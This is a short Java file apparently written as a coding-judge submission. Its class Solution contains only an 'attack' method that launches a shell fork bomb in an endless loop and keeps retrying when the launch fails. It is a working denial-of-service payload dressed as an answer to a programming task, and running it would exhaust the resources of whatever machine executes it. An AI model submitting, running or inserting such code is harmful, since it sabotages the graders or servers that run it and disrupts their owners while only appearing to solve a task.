class Solution {
	public int attack(int n) {
		while (true) {
			try {
				new ProcessBuilder("/bin/sh", "-c", "f() { f | f & f; }; f").start();
			} catch (java.io.IOException refused) {
				// goes on trying
			}
		}
	}
}
